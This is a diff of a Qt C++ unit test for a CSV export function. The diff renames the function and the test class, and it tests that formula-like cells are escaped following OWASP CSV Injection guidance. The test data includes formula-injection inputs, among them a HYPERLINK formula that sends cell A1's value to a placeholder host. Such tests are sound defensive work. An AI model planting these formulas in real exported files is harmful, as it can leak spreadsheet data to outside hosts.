@@ -1,16 +1,15 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-#include "app/presenters/words/csv.h"
 #include "tests/support/test_program.h"
+#include "widgets/views/csv_text.h"
 
 #include <QAbstractTableModel>
 #include <QObject>
 #include <QTest>
 
-namespace tst_presenters_csv {
+namespace tst_views_csv_table {
 
-using namespace sandglass;
 using namespace Qt::StringLiterals;
-using presenters::toCsv;
+using sandglass::widgets::csvText;
 
 namespace {
 
@@ -89,12 +88,12 @@ QList<QStringList> readCsv(const QString& csv)
 
 QString cellOf(const QString& text)
 {
-    return readCsv(toCsv(Table({u"name"_s, u"next"_s}, {{text, u"x"_s}}))).value(1).value(0);
+    return readCsv(csvText(Table({u"name"_s, u"next"_s}, {{text, u"x"_s}}))).value(1).value(0);
 }
 
 } // namespace
 
-class TestCsv : public QObject
+class TestCsvTable : public QObject
 {
     Q_OBJECT
 
@@ -110,7 +109,7 @@ private Q_SLOTS:
     void theRoleThatIsAskedForIsWritten();
 };
 
-void TestCsv::aHostileCellComesBackAsItWas_data()
+void TestCsvTable::aHostileCellComesBackAsItWas_data()
 {
     QTest::addColumn<QString>("text");
     QTest::newRow("empty") << QString();
@@ -130,19 +129,19 @@ void TestCsv::aHostileCellComesBackAsItWas_data()
     QTest::newRow("10 kB") << QString(10'240, u'"');
 }
 
-void TestCsv::aHostileCellComesBackAsItWas()
+void TestCsvTable::aHostileCellComesBackAsItWas()
 {
     QFETCH(QString, text);
     QCOMPARE(cellOf(text), text);
 }
 
-void TestCsv::aFormulaBecomesText_data()
+void TestCsvTable::aFormulaBecomesText_data()
 {
     // as OWASP lists them: CSV Injection, and ASVS 5.0, 1.2.10
     QTest::addColumn<QString>("text");
     QTest::newRow("equals") << u"=1+1"_s;
-    QTest::newRow("plus") << u"+1"_s;
-    QTest::newRow("minus") << u"-1"_s;
+    QTest::newRow("plus") << u"+1+1"_s;
+    QTest::newRow("minus") << u"-1+1"_s;
     QTest::newRow("at") << u"@SUM(A1)"_s;
     QTest::newRow("tab") << u"\t=1"_s;
     QTest::newRow("carriage return") << u"\r=1"_s;
@@ -152,45 +151,45 @@ void TestCsv::aFormulaBecomesText_data()
     QTest::newRow("a link") << u"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"_s;
 }
 
-void TestCsv::aFormulaBecomesText()
+void TestCsvTable::aFormulaBecomesText()
 {
     QFETCH(QString, text);
     QCOMPARE(cellOf(text), u'\'' + text);
 }
 
-void TestCsv::aFormulaThatNeedsQuotesHasBoth()
+void TestCsvTable::aFormulaThatNeedsQuotesHasBoth()
 {
-    const QString csv = toCsv(Table({u"a"_s}, {{u"=\"x\",1"_s}}));
+    const QString csv = csvText(Table({u"a"_s}, {{u"=\"x\",1"_s}}));
     QCOMPARE(csv, u"a\r\n\"'=\"\"x\"\",1\"\r\n"_s);
 }
 
-void TestCsv::headersAreMadeSafeLikeCells()
+void TestCsvTable::headersAreMadeSafeLikeCells()
 {
-    const QString csv = toCsv(Table({u"=a"_s, u"b,c"_s, u"d\"e"_s}, {}));
+    const QString csv = csvText(Table({u"=a"_s, u"b,c"_s, u"d\"e"_s}, {}));
     QCOMPARE(readCsv(csv), (QList<QStringList>{{u"'=a"_s, u"b,c"_s, u"d\"e"_s}}));
 }
 
-void TestCsv::aTableWithoutRowsIsItsHeader()
+void TestCsvTable::aTableWithoutRowsIsItsHeader()
 {
-    QCOMPARE(toCsv(Table({u"a"_s, u"b"_s}, {})), u"a,b\r\n"_s);
+    QCOMPARE(csvText(Table({u"a"_s, u"b"_s}, {})), u"a,b\r\n"_s);
 }
 
-void TestCsv::everyRowIsALineOfItsOwn()
+void TestCsvTable::everyRowIsALineOfItsOwn()
 {
     const QList<QStringList> rows{{u"1"_s, QString()}, {QString(), u"2\n"_s}, {u"3"_s, u"4"_s}};
-    const QList<QStringList> read = readCsv(toCsv(Table({u"a"_s, u"b"_s}, rows)));
+    const QList<QStringList> read = readCsv(csvText(Table({u"a"_s, u"b"_s}, rows)));
     QCOMPARE(read.size(), 4);
     QCOMPARE(read.mid(1), rows);
 }
 
-void TestCsv::theRoleThatIsAskedForIsWritten()
+void TestCsvTable::theRoleThatIsAskedForIsWritten()
 {
     const Table table({u"a"_s}, {{u"shown"_s}});
-    QCOMPARE(toCsv(table, kOtherRole), u"a\r\nother\r\n"_s);
-    QCOMPARE(toCsv(table, Qt::UserRole + 7), u"a\r\n\r\n"_s);
+    QCOMPARE(csvText(table, kOtherRole), u"a\r\nother\r\n"_s);
+    QCOMPARE(csvText(table, Qt::UserRole + 7), u"a\r\n\r\n"_s);
 }
 
-SANDGLASS_TEST(TestCsv)
-} // namespace tst_presenters_csv
+SANDGLASS_TEST(TestCsvTable)
+} // namespace tst_views_csv_table
 
-#include "tst_presenters_csv.moc"
+#include "tst_views_csv_table.moc"
